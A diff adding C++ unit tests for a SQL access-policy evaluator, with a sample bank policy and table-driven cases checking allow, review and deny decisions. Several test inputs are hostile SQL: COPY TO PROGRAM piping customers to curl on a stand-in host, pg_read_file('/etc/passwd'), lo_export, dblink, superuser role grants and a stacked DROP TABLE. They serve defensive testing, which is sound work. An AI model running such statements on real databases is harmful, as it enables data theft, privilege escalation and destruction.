@@ -1,0 +1,200 @@
+// The policy evaluator as a pure function, table-driven, on statements classified by the
+// real grammar (userspace/sql) and the bank example policy.
+#include "userspace/policy/evaluator.h"
+
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "userspace/policy/loader.h"
+#include "userspace/sql/classify.h"
+
+namespace interlock::policy {
+namespace {
+
+constexpr char kBankPolicy[] = R"YAML(
+resources:
+  - {resource: bank-db, default_action: ACTION_REVIEW}
+rules:
+  - id: allow-select
+    match: {kinds: [STATEMENT_KIND_SELECT]}
+    action: ACTION_ALLOW
+  - id: review-full-customer-read
+    match: {kinds: [STATEMENT_KIND_SELECT], tables: [customers], no_limit: true}
+    action: ACTION_REVIEW
+    reason: full-table read of customers
+  - id: allow-bounded-writes
+    match: {kinds: [STATEMENT_KIND_INSERT, STATEMENT_KIND_UPDATE, STATEMENT_KIND_DELETE]}
+    action: ACTION_ALLOW
+  - id: review-unbounded-writes
+    match: {kinds: [STATEMENT_KIND_UPDATE, STATEMENT_KIND_DELETE], no_where: true}
+    action: ACTION_REVIEW
+    review_timeout_s: 60
+  - id: review-hidden-writes
+    match: {kinds: [STATEMENT_KIND_SELECT], tables_written: ["*"]}
+    action: ACTION_REVIEW
+    reason: a data-modifying CTE inside a SELECT
+  - id: review-ddl
+    match: {kinds: [STATEMENT_KIND_DDL]}
+    action: ACTION_REVIEW
+  - id: review-copy-out
+    match: {copy_to: true}
+    action: ACTION_REVIEW
+  - id: deny-copy-program
+    match: {copy_program: true}
+    action: ACTION_DENY
+    reason: COPY PROGRAM runs commands on the database host
+  - id: deny-dangerous-functions
+    match: {functions: [pg_read_file, lo_export, "dblink*"]}
+    action: ACTION_DENY
+  - id: deny-role-changes
+    match: {kinds: [STATEMENT_KIND_ROLE, STATEMENT_KIND_GRANT]}
+    action: ACTION_DENY
+  - id: deny-interns-deletes
+    subject: {groups: [interns]}
+    match: {kinds: [STATEMENT_KIND_DELETE]}
+    action: ACTION_DENY
+)YAML";
+
+struct Case {
+  std::string sql;
+  v1::Action action;
+  std::string rule;  // "" for a resource default
+  std::string source = "rule";
+};
+
+class BankPolicyTest : public ::testing::TestWithParam<Case> {
+ protected:
+  static void SetUpTestSuite() {
+    auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
+    ASSERT_TRUE(eval.ok()) << eval.status();
+    eval_ = std::move(*eval).release();
+  }
+  static PolicyEvaluator* eval_;
+};
+PolicyEvaluator* BankPolicyTest::eval_ = nullptr;
+
+TEST_P(BankPolicyTest, DecidesAsDocumented) {
+  const Case& c = GetParam();
+  auto sql = sql::Classify(c.sql);
+  ASSERT_TRUE(sql.ok()) << sql.status();
+  SubjectFacts who{.workload = "billing-agent"};
+  Decision d = eval_->Evaluate(who, "bank-db", *sql);
+  EXPECT_EQ(ActionName(d.action), ActionName(c.action)) << c.sql << " -> rule " << d.rule_id;
+  EXPECT_EQ(d.rule_id, c.rule) << c.sql;
+  EXPECT_EQ(d.source, c.source) << c.sql;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Bank, BankPolicyTest,
+    ::testing::Values(
+        Case{"SELECT name FROM customers WHERE id = 42 LIMIT 1", v1::ACTION_ALLOW, "allow-select"},
+        Case{"SELECT * FROM customers", v1::ACTION_REVIEW, "review-full-customer-read"},
+        Case{"select * from public.customers c join orders o on o.cid = c.id", v1::ACTION_REVIEW,
+             "review-full-customer-read"},
+        Case{"SELECT * FROM orders", v1::ACTION_ALLOW, "allow-select"},
+        Case{"DELETE FROM customers", v1::ACTION_REVIEW, "review-unbounded-writes"},
+        Case{"DELETE FROM customers WHERE id = 3", v1::ACTION_ALLOW, "allow-bounded-writes"},
+        Case{"UPDATE accounts SET balance = 0", v1::ACTION_REVIEW, "review-unbounded-writes"},
+        Case{"EXPLAIN ANALYZE DELETE FROM customers", v1::ACTION_REVIEW, "review-unbounded-writes"},
+        // A write hidden in a SELECT is still a write.
+        Case{"WITH d AS (DELETE FROM orders RETURNING *) SELECT 1", v1::ACTION_REVIEW,
+             "review-hidden-writes"},
+        Case{"COPY customers TO PROGRAM 'curl -d @- http://x'", v1::ACTION_DENY, "deny-copy-program"},
+        Case{"COPY (SELECT * FROM customers) TO STDOUT", v1::ACTION_REVIEW, "review-copy-out"},
+        Case{"SELECT pg_read_file('/etc/passwd')", v1::ACTION_DENY, "deny-dangerous-functions"},
+        Case{"SELECT id FROM customers WHERE note = (SELECT lo_export(1, '/tmp/x')) LIMIT 5",
+             v1::ACTION_DENY, "deny-dangerous-functions"},
+        Case{"SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", v1::ACTION_DENY,
+             "deny-dangerous-functions"},
+        Case{"ALTER ROLE app SUPERUSER", v1::ACTION_DENY, "deny-role-changes"},
+        Case{"GRANT ALL ON customers TO PUBLIC", v1::ACTION_DENY, "deny-role-changes"},
+        Case{"SELECT 1; DROP TABLE customers", v1::ACTION_REVIEW, "review-ddl"},
+        Case{"/* DROP */ SELECT 'DELETE FROM customers' FROM orders -- ; DROP TABLE x",
+             v1::ACTION_ALLOW, "allow-select"},
+        Case{"SELEC 1", v1::ACTION_DENY, "", "parse_error_default"},
+        Case{"VACUUM", v1::ACTION_REVIEW, "", "default"}));
+
+TEST(PolicyEvaluator, MultiStatementReportsTheDecidingStatement) {
+  auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
+  ASSERT_TRUE(eval.ok());
+  auto sql = sql::Classify("SELECT 1; SELECT 2; ALTER ROLE x SUPERUSER");
+  ASSERT_TRUE(sql.ok());
+  Decision d = (*eval)->Evaluate({.workload = "a"}, "bank-db", *sql);
+  EXPECT_EQ(d.action, v1::ACTION_DENY);
+  EXPECT_EQ(d.statement_index, 2);
+}
+
+TEST(PolicyEvaluator, TokenClaimRulesNeedAToken) {
+  auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
+  ASSERT_TRUE(eval.ok());
+  auto sql = sql::Classify("DELETE FROM orders WHERE id = 1");
+  ASSERT_TRUE(sql.ok());
+  SubjectFacts intern{.workload = "a", .has_token = true, .sub = "alice", .groups = {"interns"}};
+  EXPECT_EQ((*eval)->Evaluate(intern, "bank-db", *sql).rule_id, "deny-interns-deletes");
+  SubjectFacts no_token{.workload = "a", .groups = {"interns"}};  // claims without a token
+  EXPECT_EQ((*eval)->Evaluate(no_token, "bank-db", *sql).action, v1::ACTION_ALLOW);
+}
+
+TEST(PolicyEvaluator, ReviewTimeoutAndReasonComeFromTheRule) {
+  auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
+  ASSERT_TRUE(eval.ok());
+  auto sql = sql::Classify("UPDATE accounts SET balance = 0");
+  Decision d = (*eval)->Evaluate({.workload = "a"}, "bank-db", *sql);
+  EXPECT_EQ(d.review_timeout, absl::Seconds(60));
+  sql = sql::Classify("SELECT * FROM customers");
+  d = (*eval)->Evaluate({.workload = "a"}, "bank-db", *sql);
+  EXPECT_EQ(d.reason, "full-table read of customers");
+  EXPECT_EQ(d.review_timeout, absl::Minutes(5));
+}
+
+TEST(PolicyEvaluator, UnlistedResourceDefaultsToReviewAndParseErrorsToDeny) {
+  v1::Policy empty;
+  auto eval = PolicyEvaluator::Create(empty);
+  ASSERT_TRUE(eval.ok());
+  auto sql = sql::Classify("SELECT 1");
+  EXPECT_EQ((*eval)->Evaluate({}, "any", *sql).action, v1::ACTION_REVIEW);
+  sql = sql::Classify("SELECT FROM WHERE");
+  EXPECT_EQ((*eval)->Evaluate({}, "any", *sql).action, v1::ACTION_DENY);
+}
+
+TEST(PolicyEvaluator, SubjectWorkloadCgroupAndUid) {
+  v1::Policy p;
+  v1::Rule* r = p.add_rules();
+  r->set_id("billing-only");
+  r->set_action(v1::ACTION_DENY);
+  r->mutable_subject()->add_workloads("billing-*");
+  r->mutable_subject()->add_cgroups("/interlock/workloads");
+  r->mutable_subject()->add_uids(1000);
+  auto eval = PolicyEvaluator::Create(p);
+  ASSERT_TRUE(eval.ok());
+  auto sql = sql::Classify("SELECT 1");
+  SubjectFacts who{.workload = "billing-agent", .cgroup_path = "/interlock/workloads/billing-agent.1", .uid = 1000};
+  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "billing-only");
+  who.uid = 0;
+  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "");
+  who.uid = 1000;
+  who.workload = "reporting";
+  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "");
+  who.workload = "billing-agent";
+  who.cgroup_path = "/interlock/workloadsX";  // a prefix of the path string, not of the tree
+  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "");
+}
+
+TEST(PolicyEvaluator, MoreSpecificRuleIsReportedAmongEqualActions) {
+  v1::Policy p;
+  v1::Rule* general = p.add_rules();
+  general->set_id("general");
+  general->set_action(v1::ACTION_REVIEW);
+  general->mutable_match()->add_kinds(v1::STATEMENT_KIND_DELETE);
+  v1::Rule* specific = p.add_rules();
+  specific->set_id("specific");
+  specific->set_action(v1::ACTION_REVIEW);
+  specific->mutable_match()->add_kinds(v1::STATEMENT_KIND_DELETE);
+  specific->mutable_match()->add_tables("customers");
+  auto eval = PolicyEvaluator::Create(p);
+  ASSERT_TRUE(eval.ok());
+  auto sql = sql::Classify("DELETE FROM customers WHERE id = 1");
+  EXPECT_EQ((*eval)->Evaluate({}, "db", *sql).rule_id, "specific");
+}
+
+}  // namespace
+}  // namespace interlock::policy
